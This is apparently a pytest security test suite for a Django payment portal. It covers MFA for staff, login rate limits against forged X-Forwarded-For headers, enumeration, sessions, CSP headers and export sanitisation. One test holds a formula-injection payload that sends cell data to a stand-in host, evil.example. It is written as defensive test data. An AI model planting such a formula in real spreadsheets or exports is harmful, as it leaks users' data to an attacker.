"""Security gates: production settings, the admin's door, brute force, enumeration, sessions
and reauthentication, response headers, static analysis and files a merchant downloads.

Gates that already had a test elsewhere are listed in docs/RELIABILITY.md, not repeated.
"""

from __future__ import annotations

import io
import json
import os
import re
import secrets
import subprocess
import sys
import uuid
from pathlib import Path

import pytest
from allauth.mfa.models import Authenticator
from django.conf import settings
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from shops.models import ApiKey
from tests.factories import (
    PASSWORD,
    ShopFactory,
    UserFactory,
    reauthenticated,
    totp_code,
)
from tests.manage_process import manage
from transactions import services as payment_services

pytestmark = pytest.mark.django_db

ROOT = Path(__file__).resolve().parents[2]
LOGIN = reverse("account_login")
ADMIN = reverse("admin:index")


@pytest.fixture(autouse=True)
def _fast_password_hashing(settings):
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]


# --------------------------------------------------------------------------- production
PRODUCTION_NAMES = {
    "DEBUG",
    "SECRET_KEY",
    "ALLOWED_HOSTS",
    "SITE_URL",
    "SECURE_SSL_REDIRECT",
    "SECURE_HSTS_SECONDS",
    "SECURE_COOKIES",
    "SECURE_PROXY_SSL_HEADER",
    "TRUSTED_PROXY_COUNT",
    "DJANGO_ALLOW_ASYNC_UNSAFE",
}


def _manage(*args: str, **env: str) -> subprocess.CompletedProcess:
    return manage(*args, clear=PRODUCTION_NAMES, **env)


def _production(**overrides: str) -> dict[str, str]:
    env = {
        "DEBUG": "0",
        "SECRET_KEY": secrets.token_urlsafe(64),
        "ALLOWED_HOSTS": "portal.inecopay.am",
        "SITE_URL": "https://portal.inecopay.am",
        "CSRF_TRUSTED_ORIGINS": "https://portal.inecopay.am",
        "SECURE_PROXY_SSL_HEADER": "1",
    }
    env.update(overrides)
    return env


def test_check_deploy_is_clean_behind_the_tls_proxy():
    result = _manage("check", "--deploy", "--fail-level", "WARNING", **_production())
    assert result.returncode == 0, result.stdout + result.stderr
    assert "no issues" in result.stdout


def test_production_settings_count_one_trusted_proxy_behind_tls():
    code = "from django.conf import settings as s; print(s.ALLAUTH_TRUSTED_PROXY_COUNT)"
    assert _manage("shell", "-c", code, **_production()).stdout.split()[-1] == "1"
    direct = _production(SECURE_PROXY_SSL_HEADER="0")
    assert _manage("shell", "-c", code, **direct).stdout.split()[-1] == "0"


@pytest.mark.parametrize("value", ["-1", "two"])
def test_bad_trusted_proxy_count_stops_with_one_line(value):
    result = _manage("check", **_production(TRUSTED_PROXY_COUNT=value))
    assert result.returncode == 2
    assert result.stderr.strip().startswith("Inecopay cannot start: TRUSTED_PROXY_COUNT ")


# --------------------------------------------------------------------------- the admin
def test_admin_login_is_allauths_login(client):
    response = client.get(reverse("admin:login"))
    assert response.status_code == 302
    assert response["Location"].startswith(LOGIN)
    # Django's own admin form is gone: posting a password to it signs nobody in.
    staff = UserFactory(is_staff=True, is_superuser=True)
    response = client.post(reverse("admin:login"), {"username": staff.email, "password": PASSWORD})
    assert response.status_code == 302 and response["Location"].startswith(LOGIN)
    assert "_auth_user_id" not in client.session


def test_staff_sign_in_asks_for_the_second_factor(client):
    staff = UserFactory(is_staff=True, is_superuser=True)
    response = client.post(LOGIN, {"login": staff.email, "password": PASSWORD})
    assert response.status_code == 302
    assert response["Location"] == reverse("mfa_authenticate")
    assert "_auth_user_id" not in client.session
    response = client.post(reverse("mfa_authenticate"), {"code": totp_code()})
    assert response.status_code == 302
    assert client.get(ADMIN).status_code == 200


def test_staff_without_two_factor_are_sent_to_set_it_up():
    staff = UserFactory(is_staff=True, is_superuser=True, mfa=False)
    assert not Authenticator.objects.filter(user=staff).exists()
    client = Client()
    client.force_login(staff)
    for url in (ADMIN, reverse("admin:merchants_merchant_changelist")):
        response = client.get(url)
        assert response.status_code == 302
        assert response["Location"] == reverse("mfa_activate_totp")


def test_merchant_users_get_403_from_the_admin_login(owner_client):
    assert owner_client.get(reverse("admin:login")).status_code == 403


# --------------------------------------------------------------------------- brute force
@pytest.fixture
def real_cache(settings):
    """The rate limits count in the cache the portal runs with: Redis when REDIS_URL is set
    (a key prefix of this test's own, deleted after), else the per-test memory cache."""
    url = os.environ.get("REDIS_URL")
    if not url:
        yield
        return
    prefix = f"trust-{uuid.uuid4().hex}"
    settings.CACHES = {
        "default": {
            "BACKEND": "django.core.cache.backends.redis.RedisCache",
            "LOCATION": url,
            "KEY_PREFIX": prefix,
        }
    }
    yield
    import redis

    connection = redis.Redis.from_url(url)
    for key in connection.scan_iter(f"{prefix}:*"):
        connection.delete(key)


def _fail_login(email: str, forwarded: str, password: str = "wrong-password"):
    client = Client(REMOTE_ADDR="198.51.100.7", HTTP_X_FORWARDED_FOR=forwarded)
    response = client.post(LOGIN, {"login": email, "password": password})
    return response, client


def _refused(response, client) -> bool:
    body = response.content.decode()
    return "_auth_user_id" not in client.session and (
        response.status_code == 429 or "Too many failed login attempts" in body
    )


def test_sixth_failed_login_for_one_email_is_refused_whatever_x_forwarded_for(
    owner, real_cache, english
):
    for n in range(5):
        response, client = _fail_login(owner.email, f"203.0.113.{n}")
        assert not _refused(response, client), n
    response, client = _fail_login(owner.email, "192.0.2.99", password=PASSWORD)
    assert _refused(response, client)


@pytest.mark.parametrize("proxies", [0, 1])
def test_forged_x_forwarded_for_does_not_reset_the_per_address_limit(
    proxies, settings, real_cache, english
):
    """Eleven different emails from one address: the eleventh is refused, although every
    request claims another origin in the part of X-Forwarded-For a client can write."""
    settings.ALLAUTH_TRUSTED_PROXY_COUNT = proxies
    # With one trusted proxy the address is the entry the proxy appended (the last).
    appended = ", 198.51.100.7" if proxies else ""
    for n in range(10):
        response, client = _fail_login(f"nobody{n}@example.am", f"203.0.113.{n}{appended}")
        assert not _refused(response, client), n
    response, client = _fail_login("nobody10@example.am", f"192.0.2.1{appended}")
    assert _refused(response, client)


# --------------------------------------------------------------------------- enumeration
def _comparable(response, *emails: str) -> str:
    body = response.content.decode()
    body = re.sub(r'name="csrfmiddlewaretoken" value="[^"]+"', "", body)
    for email in emails:
        body = body.replace(email, "EMAIL")
    return body


def test_failed_login_answers_the_same_for_known_and_unknown_emails(owner, english):
    known = Client().post(LOGIN, {"login": owner.email, "password": "wrong-password"})
    unknown = Client().post(LOGIN, {"login": "ghost@example.am", "password": "wrong-password"})
    assert known.status_code == unknown.status_code == 200
    assert _comparable(known, owner.email) == _comparable(unknown, "ghost@example.am")


def test_password_reset_page_after_asking_is_the_same_for_known_and_unknown(owner, english):
    pages = []
    for email in (owner.email, "ghost@example.am"):
        client = Client()
        response = client.post(reverse("account_reset_password"), {"email": email}, follow=True)
        assert response.status_code == 200
        pages.append(_comparable(response, email))
    assert pages[0] == pages[1]


def test_signup_page_after_signing_up_is_the_same_for_taken_and_new(owner, english):
    pages = []
    for email in (owner.email, "brand.new@example.am"):
        response = Client().post(
            reverse("account_signup"),
            {
                "email": email,
                "password1": "Very-secret-pass-42",
                "password2": "Very-secret-pass-42",
            },
            follow=True,
        )
        assert response.status_code == 200
        pages.append(_comparable(response, email))
    assert pages[0] == pages[1]


# --------------------------------------------------------------------------- sessions
def test_signing_in_gives_a_new_session_key(owner):
    client = Client()
    client.get(LOGIN)
    client.session.save()
    before = client.session.session_key
    client.cookies[settings.SESSION_COOKIE_NAME] = before
    client.post(LOGIN, {"login": owner.email, "password": PASSWORD})
    assert client.session.get("_auth_user_id") == str(owner.pk)
    assert client.session.session_key != before


def test_changing_the_password_signs_out_the_other_sessions(owner):
    here, elsewhere = Client(), Client()
    for client in (here, elsewhere):
        client.post(LOGIN, {"login": owner.email, "password": PASSWORD})
        assert client.get(reverse("dashboard")).status_code == 200
    response = here.post(
        reverse("account_change_password"),
        {
            "oldpassword": PASSWORD,
            "password1": "Brand-new-pass-77",
            "password2": "Brand-new-pass-77",
        },
    )
    assert response.status_code == 302
    assert here.get(reverse("dashboard")).status_code == 200
    response = elsewhere.get(reverse("dashboard"))
    assert response.status_code == 302 and response["Location"].startswith(LOGIN)


@pytest.fixture
def signed_in(owner) -> Client:
    """Signed in with the password, as a person does: not yet reauthenticated."""
    client = Client()
    client.post(LOGIN, {"login": owner.email, "password": PASSWORD})
    return client


def _asks_to_reauthenticate(response) -> bool:
    return response.status_code == 302 and response["Location"].startswith(
        reverse("account_reauthenticate")
    )


def test_adding_an_email_asks_for_the_password_again(signed_in, owner):
    response = signed_in.post(reverse("account_email"), {"action_add": "", "email": "n@example.am"})
    assert _asks_to_reauthenticate(response)
    assert not owner.emailaddress_set.filter(email="n@example.am").exists()
    reauthenticated(signed_in, owner)
    signed_in.post(reverse("account_email"), {"action_add": "", "email": "n@example.am"})
    assert owner.emailaddress_set.filter(email="n@example.am").exists()


def test_turning_on_two_factor_asks_for_the_password_again(signed_in):
    assert _asks_to_reauthenticate(signed_in.get(reverse("mfa_activate_totp")))


@pytest.mark.parametrize("action", ["create", "roll", "revoke"])
def test_changing_api_keys_asks_for_the_password_again(signed_in, owner, merchant, action):
    from shops.services import api_key_create

    shop = ShopFactory(merchant=merchant)
    key, _plaintext = api_key_create(shop=shop, kind=ApiKey.Kind.SECRET_TEST, by=owner)
    url = {
        "create": reverse("shops:key_create", args=[shop.pk]),
        "roll": reverse("shops:key_roll", args=[shop.pk, key.pk]),
        "revoke": reverse("shops:key_revoke", args=[shop.pk, key.pk]),
    }[action]
    response = signed_in.post(url, {"kind": "sk_test", "grace": "0"})
    assert _asks_to_reauthenticate(response)
    assert ApiKey.objects.filter(shop=shop).count() == 1
    key.refresh_from_db()
    assert key.revoked_at is None and key.expires_at is None


# --------------------------------------------------------------------------- headers
def _pages(merchant, owner) -> dict[str, tuple[Client, str]]:
    shop = ShopFactory(merchant=merchant, is_open=True)
    payment = payment_services.payment_create(
        shop=shop, test=True, amount=10_000, currency="AMD", order_id="h-1"
    )
    member = Client()
    member.force_login(owner)
    return {
        "landing": (Client(), reverse("landing")),
        "login": (Client(), LOGIN),
        "dashboard": (member, reverse("dashboard")),
        "transactions": (member, reverse("transactions:list")),
        "reports": (member, reverse("reports:index")),
        "payment form": (Client(), reverse("payform:pay", args=[payment.form_token])),
    }


def test_html_pages_carry_csp_without_inline_scripts_and_the_security_headers(merchant, owner):
    for name, (client, url) in _pages(merchant, owner).items():
        response = client.get(url)
        assert response.status_code == 200, name
        assert response["Content-Type"].startswith("text/html"), name
        csp = {
            part.split()[0]: part.split()[1:]
            for part in response["Content-Security-Policy"].split(";")
            if part.strip()
        }
        script_src = csp.get("script-src", csp["default-src"])
        assert "'unsafe-inline'" not in script_src and "'unsafe-eval'" not in script_src, name
        assert csp["object-src"] == ["'none'"] and csp["frame-ancestors"] == ["'none'"], name
        assert response["X-Content-Type-Options"] == "nosniff", name
        assert response["Referrer-Policy"] == "same-origin", name
        assert response["X-Frame-Options"] == "DENY", name
        body = response.content.decode()
        # No inline script runs under this policy; none should be written either.
        assert not re.search(r"<script(?![^>]*\bsrc=)[^>]*>\s*\S", body), name
        assert not re.search(r"\son[a-z]+\s*=\s*\"", body), name


# --------------------------------------------------------------------------- static analysis
def test_bandit_finds_no_medium_or_high_issue():
    """The same run as `make security`: each reviewed finding is justified inline."""
    bandit = Path(sys.executable).with_name("bandit")
    result = subprocess.run(
        [str(bandit), "-c", "pyproject.toml", "-r", ".", "-q", "--severity-level", "medium"]
        + ["-f", "json"],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=300,
    )
    report = json.loads(result.stdout)
    found = [
        f"{r['filename']}:{r['line_number']} {r['test_id']} {r['issue_text']}"
        for r in report["results"]
        if r["issue_severity"] in ("MEDIUM", "HIGH")
    ]
    assert not found, "\n".join(found)
    assert result.returncode == 0, result.stderr
    scanned = report["metrics"]["_totals"]["loc"]
    assert scanned > 10_000  # the project was scanned, not an empty folder


# --------------------------------------------------------------------------- downloads
def test_formula_in_a_payment_description_is_text_in_the_exported_xlsx(owner_client, merchant):
    shop = ShopFactory(merchant=merchant, is_open=True)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    payment_services.payment_create(
        shop=shop,
        test=True,
        amount=10_000,
        currency="AMD",
        order_id="@SUM(A1)",
        description=formula,
    )
    response = owner_client.post(
        reverse("exports:payments"), {"format": "xlsx", "filters": "mode=test"}
    )
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = {cell.value: cell for row in sheet.iter_rows(min_row=2) for cell in row}
    assert cells[formula].data_type == "s"
    assert cells["@SUM(A1)"].data_type == "s"
    csv = owner_client.post(reverse("exports:payments"), {"format": "csv", "filters": "mode=test"})
    text = b"".join(csv.streaming_content).decode("utf-8-sig")
    assert "'=HYPERLINK(" in text and "'@SUM(A1)" in text
